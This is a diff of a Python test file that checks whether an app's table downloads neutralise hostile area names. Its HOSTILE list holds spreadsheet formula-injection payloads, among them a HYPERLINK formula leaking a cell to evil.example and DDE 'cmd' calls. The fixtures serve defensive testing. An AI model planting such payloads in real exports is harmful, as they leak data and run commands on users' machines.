@@ -29,7 +29,7 @@ people = test_submit_page.people  # a tmp report store and tiny cache, signed-in
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Hartlepool")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
-TABLE_FILES = ("views", "ui", "app.py")
+TABLE_FILES = ("views", "ui", "app.py", "dashboard.py")
 """Where the app's pages and their Streamlit edge live."""
 OTHER_DOWNLOADS = {"ui/table_download.py": "the shared table download",
                    "ui/profile_view.py": "the area profile as PDF and HTML documents",
@@ -96,8 +96,7 @@ def test_the_map_table_download_neutralises_a_hostile_area_name(monkeypatch, tmp
     test_map.build_cache(tmp_path)
     cache = Cache(tmp_path)
     names = {"E06000001": HOSTILE[0], "E06000002": HOSTILE[1]}
-    for dataset in ("joined_area_indicator", "web_lad"):
-        rename(cache, dataset, names)
+    rename(cache, "joined_area_indicator", names)
     monkeypatch.setenv("GRA_CACHE_DIR", str(tmp_path))
     app = test_map.start()
     assert HOSTILE[0] in app.dataframe[0].value["Area"].tolist()  # shown as typed on screen
